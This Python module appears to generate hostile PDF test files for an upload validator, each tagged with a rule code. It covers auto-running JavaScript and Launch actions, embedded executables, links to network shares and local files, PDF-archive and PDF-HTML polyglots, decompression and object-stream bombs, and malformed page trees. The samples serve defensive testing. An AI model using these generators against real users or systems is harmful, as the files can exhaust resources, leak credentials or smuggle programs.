"""PDFs that act, carry, hide, exhaust or lie."""

from __future__ import annotations

import functools
import zlib

import pikepdf

from .kinds import HostileFile
from .makers import ELF, EXE, MEGABYTE, SCRIPT, archive, numbered, pdf, raw_pdf, stream, zeros

JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (calc.exe) >>"
SPEC = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"


def annotation(entries: bytes) -> bytes:
    """The page's entry of one annotation."""
    return b"/Annots [ << /Type /Annot /Rect [ 0 0 9 9 ] " + entries + b" >> ]"


def link(action: bytes) -> bytes:
    """The page's entry of one link that does this."""
    return annotation(b"/Subtype /Link /A " + action)


@functools.cache
def bomb(size: int = 200 * MEGABYTE) -> bytes:
    """Zeros by the hundred megabytes."""
    return zeros(size)


def with_content(data: bytes, entries: bytes) -> bytes:
    """A page whose content is this stream."""
    return raw_pdf(stream(data, entries), page=b"/Contents 4 0 R")


def many_streams() -> bytes:
    """Every stream within its limit, a gigabyte and a half together."""
    body = stream(bomb(140 * MEGABYTE), b"/Filter /FlateDecode")
    return raw_pdf(*[body] * 11, page=b"/Contents 4 0 R")


def object_stream_bomb(count: int = 210_000) -> bytes:
    """More objects in one packed stream than a document of 200 pages can need."""
    index = b" ".join(b"%d %d" % (number + 10, number * 5) for number in range(count)) + b"\n"
    data = zlib.compress(index + b"<<>> " * count, 9)
    entries = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (count, len(index))
    numbers = b"".join(b"\x02\0\0\x04" + (number % 65_536).to_bytes(2, "big") for number in range(count))
    return _with_xref_stream(stream(data, entries), numbers, count)


def _with_xref_stream(body: bytes, packed_rows: bytes, count: int) -> bytes:
    """A PDF with a cross-reference stream: objects 1 to 4 lie in the file, the next `count` within object 4."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [ 3 0 R ] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 9 9 ] >>",
        body,
    ]
    out, rows = bytearray(b"%PDF-1.7\n"), b""
    for number, item in enumerate(bodies, 1):
        rows += b"\x01" + len(out).to_bytes(3, "big") + b"\0\0"
        out += b"%d 0 obj\n%b\nendobj\n" % (number, item)
    table = len(out)
    entries = b"/Type /XRef /W [ 1 3 2 ] /Index [ 1 4 10 %d ] /Size %d /Root 1 0 R /Filter /FlateDecode" % (
        count,
        count + 10,
    )
    out += b"5 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        stream(zlib.compress(rows + packed_rows), entries),
        table,
    )
    return bytes(out)


def page_tree(depth: int) -> bytes:
    """Page nodes within page nodes."""
    nodes = [b"<< /Type /Pages /Count 1 /Kids [ %d 0 R ] >>" % (number + 3) for number in range(depth)]
    page = b"<< /Type /Page /Parent %d 0 R /MediaBox [ 0 0 9 9 ] >>" % (depth + 1)
    return numbered([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, page])


def cyclic_tree() -> bytes:
    """A page node that is its own child."""
    return numbered([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [ 2 0 R ] >>"])


def revised(between: bytes) -> bytes:
    """A PDF with a second revision, and something between the two."""
    first = raw_pdf()
    place = len(first + between)
    body = first + between + b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    return (
        body
        + b"xref\n1 1\n%010d 00000 n \n" % place
        + b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (first.rindex(b"xref\n0 "), len(body))
    )


def scripted(document: pikepdf.Pdf) -> None:
    """A script at opening."""
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def encrypted(user: str) -> bytes:
    """A script, locked for all or only for the owner. The old method: the newer ones draw random salts."""
    allow = pikepdf.Permissions(extract=False)
    return pdf(
        change=scripted,
        encryption=pikepdf.Encryption(owner="owner", user=user, R=3, aes=False, metadata=False, allow=allow),
    )


def active(name: str, tries: str, *objects: bytes, root: bytes = b"", page: bytes = b"") -> HostileFile:
    """A PDF that would act."""
    return HostileFile(name, "章程.pdf", lambda: raw_pdf(*objects, root=root, page=page), tries, "FILE-012")


ACTIVE = [
    active("pdf-javascript", "script at opening", root=b"/OpenAction " + JS),
    active("pdf-javascript-indirect", "script at opening, elsewhere in the file", JS, root=b"/OpenAction 4 0 R"),
    active("pdf-javascript-names", "document scripts", root=b"/Names << /JavaScript << /Names [ (a) " + JS + b" ] >> >>"),
    active("pdf-javascript-spelled", "names spelled in hexadecimal", root=b"/Open#41ction << /S /J#61vaScript /J#53 (1) >>"),
    active("pdf-launch", "starts a program at opening", root=b"/OpenAction " + LAUNCH),
    active("pdf-launch-link", "starts a program at a click", page=annotation(b"/Subtype /Link /A " + LAUNCH)),
    active("pdf-launch-hidden-name", "the kind of action lies elsewhere", b"/Launch", root=b"/X << /S 4 0 R /F (a) >>"),
    active("pdf-next", "harmless jump followed by a launch", root=b"/OpenAction << /S /GoTo /D (a) /Next " + LAUNCH + b" >>"),
    active("pdf-open-web", "opens an address by itself", root=b"/OpenAction << /S /URI /URI (https://example.com) >>"),
    active("pdf-aa-document", "script at closing", root=b"/AA << /WC " + JS + b" >>"),
    active("pdf-aa-page", "script when a page is turned to", page=b"/AA << /O " + JS + b" >>"),
    active("pdf-embedded", "program as attachment", SPEC, stream(EXE), root=b"/Names << /EmbeddedFiles << /Names [ (a) 4 0 R ] >> >>"),
    active("pdf-attachment-note", "program behind a pin", SPEC, stream(EXE), page=annotation(b"/Subtype /FileAttachment /FS 4 0 R")),
    active("pdf-xfa", "XFA form (scripts of its own)", root=b"/AcroForm << /Fields [ ] /XFA (x) >>"),
    active("pdf-rich-media", "Flash or film", page=annotation(b"/Subtype /RichMedia")),
    active("pdf-3d", "3D drawing with script", stream(b"x", b"/Type /3D /OnInstantiate 5 0 R"), stream(b"1"), page=annotation(b"/Subtype /3D /3DD 4 0 R")),
    active("pdf-movie", "plays a file from outside", page=annotation(b"/Subtype /Movie /Movie << /F (a.avi) >>")),
    active("pdf-submit", "sends the form elsewhere", page=annotation(b"/Subtype /Widget /A << /S /SubmitForm /F (http://192.0.2.1) >>")),
    active("pdf-remote", "opens a file on a share", page=annotation(b"/Subtype /Link /A << /S /GoToR /F (//192.0.2.1/a) >>")),
    active("pdf-uri-javascript", "link that is a script", page=annotation(b"/Subtype /Link /A << /S /URI /URI (java\nscript:alert\\(1\\)) >>")),
    active("pdf-uri-file", "link to a local file", page=annotation(b"/Subtype /Link /A << /S /URI /URI (file:///c:/a.exe) >>")),
    active("pdf-external-stream", "content fetched from an address", stream(b"", b"/F << /FS /URL /F (http://192.0.2.1) >>"), page=b"/Contents 4 0 R"),
    active("pdf-uri-share", "link to a share on the network", page=link(rb"<< /S /URI /URI (\\\\192.0.2.1\\share) >>")),
    active("pdf-uri-share-slashes", "the same with slashes, no scheme", page=link(b"<< /S /URI /URI (//192.0.2.1/share) >>")),
    active("pdf-uri-backslash", "web link that a viewer may take for a share", page=link(rb"<< /S /URI /URI (https:\\\\192.0.2.1\\a) >>")),
    active("pdf-uri-no-scheme", "relative link", page=link(b"<< /S /URI /URI (a.exe) >>")),
    active("pdf-uri-smb", "link with a scheme of shares", page=link(b"<< /S /URI /URI (smb://192.0.2.1/a) >>")),
    active("pdf-uri-base", "makes another of every relative link", root=b"/URI << /Base (file:///c:/) >>"),
    active("pdf-thread", "jumps into a file on a share", page=link(rb"<< /S /Thread /F (\\\\192.0.2.1\\a) /D 0 >>")),
    active("pdf-reference", "shows a page of a file on a share", stream(b"", rb"/Type /XObject /Subtype /Form /Ref << /F (\\\\192.0.2.1\\a) /Page 0 >>")),
    active("pdf-file-specification", "file specification of an address", root=b"/X << /Type /Filespec /FS /URL /F (http://192.0.2.1/a) >>"),
    active("pdf-file-unicode", "the same, only in Unicode", root=rb"/X << /Type /Filespec /UF (\\\\192.0.2.1\\a) >>"),
    active("pdf-layers", "shows and hides layers at a click", page=link(b"<< /S /SetOCGState /State [ /ON ] >>")),
    active("pdf-hide-next", "hides a field after a harmless jump", page=link(b"<< /S /GoTo /D (a) /Next << /S /Hide /T (a) >> >>")),
    active("pdf-next-list", "the third of a list of actions", page=link(b"<< /S /GoTo /D (a) /Next [ << /S /GoTo /D (b) >> << /S /GoTo /D (c) /Next << /S /Named /N /Print >> >> ] >>")),
    active("pdf-reset-form", "empties a form", page=link(b"<< /S /ResetForm >>")),
    active("pdf-unknown-action", "an action no edition of the standard knows", page=link(b"<< /S /Teleport >>")),
    HostileFile(
        "pdf-javascript-packed",
        "章程.pdf",
        lambda: pdf(
            1,
            lambda d: d.Root.__setitem__("/AA", d.make_indirect(pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.JavaScript)))),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        "script inside a packed object stream",
        "FILE-012",
    ),
]  # fmt: skip

OTHERS = [
    HostileFile("pdf-user-password", "章程.pdf", lambda: encrypted("user"), "cannot be opened", "FILE-010"),
    HostileFile(
        "pdf-owner-password", "章程.pdf", lambda: encrypted(""), "script that opens without the password", "FILE-012"
    ),
    HostileFile("pdf-201-pages", "章程.pdf", lambda: pdf(201), "too many pages", "FILE-011"),
    HostileFile("pdf-5000-pages", "章程.pdf", lambda: pdf(5_000), "far too many pages", "FILE-011"),
    HostileFile("pdf-no-pages", "章程.pdf", lambda: pdf(0), "no page", "FILE-013"),
    HostileFile("pdf-header-only", "章程.pdf", lambda: b"%PDF-1.7 nothing more", "header only", "FILE-013"),
    HostileFile(
        "pdf-rubbish", "章程.pdf", lambda: b"%PDF-1.7\nrubbish\n%%EOF", "rubbish between start and end", "FILE-013"
    ),
    HostileFile("pdf-truncated", "章程.pdf", lambda: raw_pdf()[:-60], "cut off", "FILE-013"),
    HostileFile(
        "pdf-middle-missing", "章程.pdf", lambda: raw_pdf()[:120] + raw_pdf()[-200:], "a piece is missing", "FILE-013"
    ),
    HostileFile("pdf-cyclic-tree", "章程.pdf", cyclic_tree, "page tree without end", "FILE-013"),
    HostileFile("pdf-deep-tree", "章程.pdf", lambda: page_tree(50_000), "50,000 page nodes deep", "FILE-013"),
    HostileFile(
        "pdf-two-meanings",
        "章程.pdf",
        lambda: raw_pdf(root=b"/Lang (a) /Lang (b)"),
        "one entry twice, viewers differ",
        "FILE-013",
    ),
    HostileFile("pdf-leading-newline", "章程.pdf", lambda: b"\n" + raw_pdf(), "newline before the header", "FILE-006"),
    HostileFile("pdf-leading-junk", "章程.pdf", lambda: b"x" * 900 + raw_pdf(), "junk before the header", "FILE-006"),
    HostileFile("pdf-zip", "章程.pdf", lambda: raw_pdf() + archive({"a.exe": EXE}), "PDF and archive", "FILE-014"),
    HostileFile(
        "pdf-zip-false-end",
        "章程.pdf",
        lambda: raw_pdf() + archive({"a.exe": EXE}) + b"\n%%EOF\n",
        "PDF and archive, with an end of its own",
        "FILE-014",
    ),
    HostileFile(
        "pdf-zip-inside",
        "章程.pdf",
        lambda: raw_pdf(stream(archive({"a.exe": EXE}, packed=False))),
        "archive in a stream, found from its end",
        "FILE-014",
    ),
    HostileFile("pdf-html", "章程.pdf", lambda: raw_pdf() + SCRIPT, "page behind a PDF", "FILE-014"),
    HostileFile(
        "pdf-html-false-end",
        "章程.pdf",
        lambda: raw_pdf() + SCRIPT + b"\n%%EOF\n",
        "the same with a false end",
        "FILE-014",
    ),
    HostileFile(
        "pdf-html-in-header",
        "章程.pdf",
        lambda: raw_pdf(header=b"%PDF-1.7\n%" + SCRIPT + b"\n"),
        "page in the first comment",
        "FILE-014",
    ),
    HostileFile(
        "pdf-html-between", "章程.pdf", lambda: revised(SCRIPT + b"\n"), "page between two revisions", "FILE-014"
    ),
    HostileFile(
        "pdf-elf-in-header",
        "章程.pdf",
        lambda: raw_pdf(header=b"%PDF-1.7\n%" + ELF + b"\n"),
        "program in the first comment",
        "FILE-014",
    ),
    HostileFile(
        "pdf-padding", "章程.pdf", lambda: raw_pdf() + b"\0" * 2_000, "padding that could hide a file", "FILE-014"
    ),
    HostileFile(
        "pdf-flate-bomb",
        "章程.pdf",
        lambda: with_content(bomb(), b"/Filter /FlateDecode"),
        "200 MB in 200 kB",
        "FILE-015",
    ),
    HostileFile(
        "pdf-flate-twice",
        "章程.pdf",
        lambda: with_content(zlib.compress(bomb()), b"/Filter [ /FlateDecode /FlateDecode ]"),
        "200 MB in 1 kB: packed twice",
        "FILE-015",
    ),
    HostileFile(
        "pdf-flate-before-jpeg",
        "章程.pdf",
        lambda: with_content(bomb(), b"/Filter [ /FlateDecode /DCTDecode ]"),
        "bomb that claims to be a photo",
        "FILE-015",
    ),
    HostileFile(
        "pdf-run-length-bomb",
        "章程.pdf",
        lambda: with_content(b"\x81\0" * 1_200_000, b"/Filter /RunLengthDecode"),
        "150 MB in 2.4 MB, old packing",
        "FILE-015",
    ),
    HostileFile("pdf-many-bombs", "章程.pdf", many_streams, "1.5 GB in small portions", "FILE-015"),
    HostileFile(
        "pdf-image-bomb",
        "章程.pdf",
        lambda: raw_pdf(stream(b"x", b"/Subtype /Image /Width 99999 /Height 99999 /Filter /JBIG2Decode")),
        "picture of 10 billion pixels",
        "FILE-015",
    ),
    HostileFile("pdf-object-stream-bomb", "章程.pdf", object_stream_bomb, "210,000 objects in one stream", "FILE-015"),
    HostileFile(
        "pdf-wide",
        "章程.pdf",
        lambda: raw_pdf(root=b"/X [" + b"<<>>" * 210_000 + b"]"),
        "210,000 entries in a list",
        "FILE-015",
    ),
    HostileFile(
        "pdf-deep", "章程.pdf", lambda: raw_pdf(root=b"/X " + b"[" * 100 + b"]" * 100), "lists 100 deep", "FILE-015"
    ),
]
PDFS = [*ACTIVE, *OTHERS]
